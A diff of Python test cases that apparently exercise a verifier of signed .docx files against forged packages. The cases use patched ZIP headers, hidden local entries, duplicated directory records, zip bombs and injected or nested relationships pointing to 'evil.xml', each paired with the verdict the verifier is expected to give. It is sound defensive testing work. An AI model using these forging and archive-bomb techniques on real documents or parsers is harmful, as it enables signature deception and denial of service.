+    def patch(data: bytearray, local: int, central: int) -> None:
+        data[local + 30 : local + 30 + len(MAIN)] = b"word/document.xmm"
+
+    return _patched(victim, folder, MAIN, patch)
+
+
+@attack(Verdict.REJECTED, "zip-headers-differ")
+def local_method_differs(victim: Victim, folder: Path) -> Path:
+    return _patched(victim, folder, MAIN, lambda data, local, central: struct.pack_into("<H", data, local + 8, 0))
+
+
+@attack(Verdict.REJECTED, "zip-headers-differ")
+def local_size_differs(victim: Victim, folder: Path) -> Path:
+    return _patched(victim, folder, MAIN, lambda data, local, central: struct.pack_into("<L", data, local + 22, 5))
+
+
+@attack(Verdict.REJECTED, "zip-headers-differ")
+def descriptor_promised_but_missing(victim: Victim, folder: Path) -> Path:
+    def patch(data: bytearray, local: int, central: int) -> None:
+        data[local + 6] |= 8
+        data[central + 8] |= 8
+
+    return _patched(victim, folder, MAIN, patch)
+
+
+@attack(Verdict.REJECTED, "zip-encrypted")
+def entry_marked_encrypted(victim: Victim, folder: Path) -> Path:
+    def patch(data: bytearray, local: int, central: int) -> None:
+        data[local + 6] |= 1
+        data[central + 8] |= 1
+
+    return _patched(victim, folder, MAIN, patch)
+
+
+@attack(Verdict.REJECTED, "zip-method")
+def entry_in_unknown_method(victim: Victim, folder: Path) -> Path:
+    def patch(data: bytearray, local: int, central: int) -> None:
+        data[local + 8] = data[central + 10] = 12
+
+    return _patched(victim, folder, MAIN, patch)
+
+
+@attack(Verdict.REJECTED, "zip-data-damaged")
+def wrong_check_sum(victim: Victim, folder: Path) -> Path:
+    """The content is as signed, but programs would offer to repair the file."""
+
+    def patch(data: bytearray, local: int, central: int) -> None:
+        data[local + 14] ^= 1
+        data[central + 16] ^= 1
+
+    return _patched(victim, folder, MAIN, patch)
+
+
+@attack(Verdict.REJECTED, "zip-data-damaged")
+def declared_size_too_small(victim: Victim, folder: Path) -> Path:
+    def patch(data: bytearray, local: int, central: int) -> None:
+        struct.pack_into("<L", data, local + 22, 10)
+        struct.pack_into("<L", data, central + 24, 10)
+
+    return _patched(victim, folder, MAIN, patch)
+
+
+@attack(Verdict.REJECTED, "zip-structure")
+def two_entries_on_one_content(victim: Victim, folder: Path) -> Path:
+    """A second directory record shows the signed main part under another name (a quine of one local header)."""
+    data = victim.signed.read_bytes()
+    end = data.rindex(b"PK\x05\x06")
+    count, size, offset = struct.unpack_from("<HLL", data, end + 10)
+    directory = data[offset : offset + size]
+    copy = directory[: 46 + sum(struct.unpack_from("<3H", directory, 28))]
+    length = struct.unpack_from("<H", copy, 28)[0]
+    twin = (
+        copy[:42] + struct.pack("<L", offset - 4) + copy[46 : 46 + length].replace(b"[C", b"[D") + copy[46 + length :]
+    )
+    record = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count + 1, count + 1, size + len(twin), offset, 0)
+    return _joined(folder, data[:offset] + directory + twin, record)
+
+
+@attack(Verdict.REJECTED, "zip-hidden-content")
+def entry_missing_from_the_directory(victim: Victim, folder: Path) -> Path:
+    """A local header with content that only programs reading from the front see."""
+    content = zlib.compress(b"<x/>")[2:-4]
+    name = b"word/hidden.xml"
+    hidden = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, zlib.crc32(b"<x/>"), len(content), 4, len(name), 0)
+    return _joined(folder, b"", _prepended(hidden + name + content, victim.signed.read_bytes()))
+
+
+@attack(Verdict.PARTIAL, "ooxml-uncovered")
+def orphan_bomb(victim: Victim, folder: Path) -> Path:
+    """300 MB of zeros in an unsigned part are never unpacked."""
+    forged = folder / "forged.docx"
+    forged.write_bytes(victim.signed.read_bytes())
+    with zipfile.ZipFile(forged, "a", zipfile.ZIP_DEFLATED) as archive, archive.open("word/media/bomb.png", "w") as out:
+        for _ in range(300):
+            out.write(bytes(1 << 20))
+    return forged
+
+
+@attack(Verdict.REJECTED, "zip-too-large")
+def bomb_of_relationships(victim: Victim, folder: Path) -> Path:
+    return changed(victim.signed, folder / "forged.docx", {"word/_rels/settings.xml.rels": b" " * (17 << 20)})
+
+
+@attack(Verdict.REJECTED, "zip-too-many-entries")
+def ten_thousand_entries(victim: Victim, folder: Path) -> Path:
+    buffer = io.BytesIO(victim.signed.read_bytes())
+    with zipfile.ZipFile(buffer, "a") as archive:
+        for number in range(10_001):
+            archive.writestr(f"x/{number}.xml", b"")
+    return _joined(folder, buffer.getvalue(), b"")
+
+
+# Relationships play tricks.
+
+
+@attack(Verdict.REJECTED, "opc-relationships")
+def relationship_id_twice(victim: Victim, folder: Path) -> Path:
+    return _edit(folder, victim, main_rels=_with_relationship("rId1", _OFFICE + "styles", "evil.xml"))
+
+
+@attack(Verdict.REJECTED, "opc-relationships")
+def relationship_inside_a_relationship(victim: Victim, folder: Path) -> Path:
+    nested = f'><Relationship Id="rIdN" Type="{_OFFICE}styles" Target="evil.xml"/></Relationship><Relationship '
+    return _edit(folder, victim, main_rels=replacing("/><Relationship ", nested))
+
+
+@attack(Verdict.REJECTED, "opc-relationships")
+def relationship_in_foreign_element(victim: Victim, folder: Path) -> Path:
+    alternate = '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"/>'
+    return _edit(folder, victim, main_rels=replacing("</Relationships>", alternate + "</Relationships>"))
+
+
+@attack(Verdict.REJECTED, "opc-signature-origin")
+def second_origin(victim: Victim, folder: Path) -> Path:
+    kind = "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin"
+    return _edit(folder, victim, root_rels=_with_relationship("rIdO", kind, "_xmlsignatures/origin.sigs"))
+
+
+# No attacks: what a genuine file may undergo.
+
+
+@attack(Verdict.GENUINE, "ooxml-metadata-uncovered")
+def core_properties_changed(victim: Victim, folder: Path) -> Path:
+    return changed(
+        victim.signed,
+        folder / "forged.docx",
+        {"docProps/core.xml": lambda content: re.sub(rb"<dc:creator>[^<]*", b"<dc:creator>Someone else", content)},
+    )
+
+
+@attack(Verdict.GENUINE, "ooxml-metadata-uncovered")
+def packed_anew(victim: Victim, folder: Path) -> Path:
+    return rebuilt(contents(victim.signed), folder / "forged.docx")
+
+
+@attack(Verdict.GENUINE, "ooxml-metadata-uncovered")
+def signed_again(victim: Victim, folder: Path) -> Path:
+    sign(victim.signed, folder / "forged.docx", victim.stranger)
+    return folder / "forged.docx"
